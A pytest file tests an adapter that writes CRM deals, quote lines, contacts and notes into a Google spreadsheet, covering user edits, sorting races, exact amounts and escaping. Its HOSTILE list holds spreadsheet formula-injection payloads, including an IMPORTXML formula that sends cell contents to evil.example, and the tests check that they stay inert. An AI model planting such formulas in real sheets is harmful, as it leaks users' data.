"""What stands in the sheet, and what people do to it meanwhile."""

from __future__ import annotations

import json
from datetime import timedelta
from decimal import Decimal

import pytest

from plugins.qd_crm_sheet.tests.conftest import RFQ, Shop, euros, lines
from qd_core.errors import RejectedError
from qd_core.plugin import CrmLine, Money
from qd_crm_sheet.adapter import SheetCrm
from qd_crm_sheet.fake import FakeGoogle
from qd_crm_sheet.fake.grid import Formula

OTHER = RFQ.replace("01", "02", 1)


def test_a_deal_and_its_lines_stand_in_their_columns(crm: SheetCrm, google: FakeGoogle) -> None:
    assert crm.create_deal(RFQ, "bea@buyer.example", lines(2), euros("20.10")) == RFQ
    (deal,) = google.grid("Deals").records()
    assert deal == {
        "rfq_id": RFQ,
        "contact": "bea@buyer.example",
        "currency": "EUR",
        "total": 20.10,
        "lines": 2,
        "quote": "",
        "notes": "",
        "created_at": "2026-01-05 09:00",
        "updated_at": "2026-01-05 09:00",
    }
    assert [(row["position"], row["sku"], row["line_total"]) for row in google.grid("Lines").records()] == [
        (1, "BR-1", 10.05),
        (2, "BR-2", 10.05),
    ]


def test_a_later_revision_writes_the_same_rows(shop: Shop, google: FakeGoogle) -> None:
    shop.crm().create_deal(RFQ, "bea@buyer.example", lines(3), euros("30.15"))
    shop.crm().create_deal(OTHER, "bo@buyer.example", lines(1), euros("10.05"))
    shop.clock.forward(timedelta(days=1))
    shop.crm().create_deal(RFQ, "bea@buyer.example", lines(2, "9.99", "Rope"), euros("19.98"))
    deals = {row["rfq_id"]: row for row in google.grid("Deals").records()}
    assert (deals[RFQ]["total"], deals[RFQ]["lines"]) == (19.98, 2)
    assert (deals[RFQ]["created_at"], deals[RFQ]["updated_at"]) == ("2026-01-05 09:00", "2026-01-06 09:00")
    assert deals[OTHER]["total"] == 10.05
    rows = [row for row in google.grid("Lines").records() if row["rfq_id"] == RFQ]
    assert [(row["description"], row["line_total"]) for row in rows] == [
        ("Rope 1", 9.99),
        ("Rope 2", 9.99),
        ("(no longer quoted)", ""),
    ]
    shop.crm().create_deal(RFQ, "bea@buyer.example", lines(3, "8.00"), euros("24.00"))
    rows = [row for row in google.grid("Lines").records() if row["rfq_id"] == RFQ]
    assert [row["line_total"] for row in rows] == [8.0, 8.0, 8.0]


def test_people_sort_reorder_and_add_columns(shop: Shop, google: FakeGoogle) -> None:
    crm = shop.crm()
    for number in range(3):
        crm.create_deal(
            f"{RFQ[:-1]}{number}", "bea@buyer.example", lines(1, f"{9 - number}.50"), euros("1.00")
        )
    deals = google.grid("Deals")
    deals.cells = [[*row[3:], *row[:3]] for row in deals.cells]
    for row, mood in zip(deals.cells, ("Mood", "good", "bad", "so so"), strict=True):
        row.insert(0, mood)
    deals.sort("rfq_id", descending=True)
    google.grid("Lines").sort("unit_price")
    crm.create_deal(f"{RFQ[:-1]}1", "bea@buyer.example", lines(1, "77.70"), euros("77.70"))
    told = {row["rfq_id"][-1]: (row["Mood"], row["total"]) for row in deals.records()}
    assert told == {"0": ("good", 1.0), "1": ("bad", 77.7), "2": ("so so", 1.0)}
    priced = {row["rfq_id"][-1]: row["line_total"] for row in google.grid("Lines").records()}
    assert priced == {"0": 9.5, "1": 77.7, "2": 7.5}


def test_a_sort_in_the_very_moment_of_writing_is_told(shop: Shop, google: FakeGoogle) -> None:
    crm = shop.crm(lines_tab="")
    for number in (1, 2):
        crm.create_deal(f"{RFQ[:-1]}{number}", "bea@buyer.example", [], euros("1.00"))

    def sorts(method: str) -> None:
        if method.endswith("values.batchUpdate"):
            google.grid("Deals").sort("rfq_id", descending=True)

    google.before = sorts
    with pytest.raises(RejectedError, match=rf"(?s)row 2 of {RFQ}.*belongs to {RFQ[:-1]}2.*Version history"):
        crm.create_deal(RFQ, "bea@buyer.example", [], euros("5.00"))
    assert [row["rfq_id"][-1] for row in google.grid("Deals").records()] == ["2", "1"], (
        "a key was overwritten"
    )


def test_a_line_that_somebody_copied_counts_once(shop: Shop, google: FakeGoogle) -> None:
    shop.crm().create_deal(RFQ, "bea@buyer.example", lines(2), euros("20.10"))
    google.grid("Lines").cells.append(list(google.grid("Lines").cells[1]))
    shop.crm().create_deal(RFQ, "bea@buyer.example", lines(2), euros("20.10"))
    assert [row["line_total"] for row in google.grid("Lines").records()] == [10.05, 10.05, ""]


@pytest.mark.parametrize(
    ("tab", "column", "named"),
    [("Deals", "total", "Gross"), ("Lines", "rfq_id", "RFQ"), ("Lines", "sku", "")],
)
def test_a_column_that_is_missing_is_named_before_anything_is_written(
    crm: SheetCrm, google: FakeGoogle, tab: str, column: str, named: str
) -> None:
    head = google.grid(tab).cells[0]
    head = [named if name == column else name for name in head]
    google.grid(tab).cells[0] = head
    with pytest.raises(RejectedError, match=f"tab '{tab}' of the spreadsheet has no column {column}"):
        crm.create_deal(RFQ, "bea@buyer.example", lines(1), euros("10.05"))
    assert all(not grid.records() for grid in google.grids)


def test_a_column_without_a_name_is_told(crm: SheetCrm, google: FakeGoogle) -> None:
    google.grid("Contacts").cells[0].insert(2, "")
    with pytest.raises(RejectedError, match="column C of tab 'Contacts' has no name"):
        crm.upsert_contact("bea@buyer.example", "Bea", "", "")


def test_a_tab_that_is_missing_is_named(crm: SheetCrm, google: FakeGoogle) -> None:
    google.grid("Deals").title = "Orders"
    with pytest.raises(RejectedError, match="no tab 'Deals'"):
        crm.create_deal(RFQ, "bea@buyer.example", lines(1), euros("10.05"))


HOSTILE = [
    '=HYPERLINK("https://evil.example","click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    '=IMPORTXML(CONCAT("https://evil.example?v=",A1),"//a")',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_is_a_formula_now_or_when_somebody_edits_it(
    crm: SheetCrm, google: FakeGoogle, text: str
) -> None:
    money = Money(Decimal("1.00"), "EUR")
    crm.upsert_contact("=cmd@buyer.example", text, text, text)
    crm.create_deal(RFQ, text, [CrmLine(text, text, Decimal(1), text, money, money)], money)
    crm.add_note(RFQ, text)
    cells = [cell for grid in google.grids for row in grid.cells for cell in row if isinstance(cell, str)]
    assert not [cell for cell in cells if isinstance(cell, Formula)]
    assert not [cell for cell in cells if cell.strip()[:1] in {"=", "+", "-", "@", "＝"}]


@pytest.mark.parametrize("text", ["0042", "1e5", "'quoted", "12/11/2026", "TRUE"])
def test_a_text_stays_the_text_that_it_was(crm: SheetCrm, google: FakeGoogle, text: str) -> None:
    for _ in range(2):  # appended, then written over
        crm.create_deal(
            RFQ, text, [CrmLine(text, text, Decimal(1), text, euros("1.00"), euros("1.00"))], euros("1.00")
        )
        (line,) = google.grid("Lines").records()
        assert (line["sku"], line["description"], line["unit"]) == (text, text, text)
        assert google.grid("Deals").records()[0]["contact"] == text


def test_what_people_keep_below_the_table_moves_down(crm: SheetCrm, google: FakeGoogle) -> None:
    google.grid("Contacts").cells += [[], ["Total", "", "", "", ""]]
    crm.upsert_contact("bea@buyer.example", "Bea", "", "")
    crm.upsert_contact("bo@buyer.example", "Bo", "", "")
    first = [row[:1] for row in google.grid("Contacts").cells]
    assert first == [["email"], ["bea@buyer.example"], ["bo@buyer.example"], [], ["Total"]]


def test_rows_that_end_up_beside_the_table_are_told(
    crm: SheetCrm, google: FakeGoogle, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(google.grid("Contacts"), "append", lambda *_, **__: (1, 27))
    with pytest.raises(RejectedError, match="at 'Contacts'!AB2:AF2, not under the heading"):
        crm.upsert_contact("bea@buyer.example", "Bea", "", "")


def test_names_of_every_kind_come_through(crm: SheetCrm, google: FakeGoogle) -> None:
    name = "Zoë “Quotes” O'Neil 🙂 " + "long " * 60 + 'said "yes", \\ and;\nleft'
    crm.upsert_contact("zoe@buyer.example", name, "Bücher & Söhne, 株式会社", "buyer.example")
    (row,) = google.grid("Contacts").records()
    assert (row["name"], row["company"]) == (name, "Bücher & Söhne, 株式会社")


def test_what_people_typed_into_a_contact_stays(crm: SheetCrm, google: FakeGoogle) -> None:
    crm.upsert_contact("Bea@Buyer.example", "", "", "buyer.example")
    row = google.grid("Contacts").cells[1]
    row[2] = "Buyer & Sons, Ltd."
    assert crm.upsert_contact("bea@buyer.example", "Bea", "Buyer", "buyer.example") == "bea@buyer.example"
    (told,) = google.grid("Contacts").records()
    assert (told["name"], told["company"]) == ("Bea", "Buyer & Sons, Ltd.")


def test_amounts_are_exact_to_the_cent_and_refused_where_they_cannot_be(
    crm: SheetCrm, google: FakeGoogle
) -> None:
    amounts = ["0.01", "0.07", "19.99", "1234567.89", "9007199254740.99", "0.1", "100.00"]
    items = [
        CrmLine(f"S{place}", "part", Decimal("2.5"), "m", euros(each), euros(each))
        for place, each in enumerate(amounts)
    ]
    crm.create_deal(RFQ, "bea@buyer.example", items, euros("9007200489228.05"))
    held = [Decimal(json.dumps(row["line_total"])) for row in google.grid("Lines").records()]
    assert held == [Decimal(each) for each in amounts]
    with pytest.raises(RejectedError, match="more digits"):
        crm.create_deal(RFQ, "bea@buyer.example", [], euros("12345678901234567.89"))


def test_a_thousand_lines_with_long_names(shop: Shop, google: FakeGoogle) -> None:
    many = lines(1000, name="🙂" * 300)
    shop.crm().create_deal(RFQ, "bea@buyer.example", many, euros("10050.00"))
    shop.crm().create_deal(RFQ, "bea@buyer.example", many, euros("10050.00"))
    rows = google.grid("Lines").records()
    assert [row["position"] for row in rows] == list(range(1, 1001))
    assert rows[-1]["description"] == "🙂" * 300 + " 1000"
    written = [path for verb, path in google.calls if verb == "POST" and path != "/token"]
    assert len(written) < 20, "a call for every line"


def test_quote_and_notes_are_cells_of_the_deal(shop: Shop, google: FakeGoogle) -> None:
    crm = shop.crm()
    crm.create_deal(RFQ, "bea@buyer.example", lines(1), euros("10.05"))
    for _ in range(2):
        crm.attach_file(RFQ, "pdfs/quote.pdf")
        crm.add_note(RFQ, "Quote Q-1 revision 1 approved\nand sent.")
    shop.clock.forward(timedelta(days=1))
    shop.crm().add_note(RFQ, "Quote Q-1 revision 1 approved and sent.")
    crm.add_note(RFQ, "Quote Q-1 revision 2 approved and sent.")
    (deal,) = google.grid("Deals").records()
    assert deal["quote"] == f"http://127.0.0.1:8642/rfq/{RFQ}"
    assert deal["notes"].split("\n") == [
        "2026-01-05 · Quote Q-1 revision 1 approved and sent.",
        "2026-01-06 · Quote Q-1 revision 2 approved and sent.",
    ]


def test_a_row_that_somebody_deleted_is_told(crm: SheetCrm, google: FakeGoogle) -> None:
    crm.create_deal(RFQ, "bea@buyer.example", lines(1), euros("10.05"))
    del google.grid("Deals").cells[1]
    for call in (crm.attach_file, crm.add_note):
        with pytest.raises(RejectedError, match=f"tab 'Deals' has no row of deal {RFQ}"):
            call(RFQ, "pdfs/quote.pdf")


def test_an_address_of_the_browser_is_taken_for_the_spreadsheet(shop: Shop, google: FakeGoogle) -> None:
    address = f"https://docs.google.com/spreadsheets/d/{google.spreadsheet}/edit#gid=0"
    shop.crm(spreadsheet=address).upsert_contact("bea@buyer.example", "Bea", "", "")
    assert len(google.grid("Contacts").records()) == 1
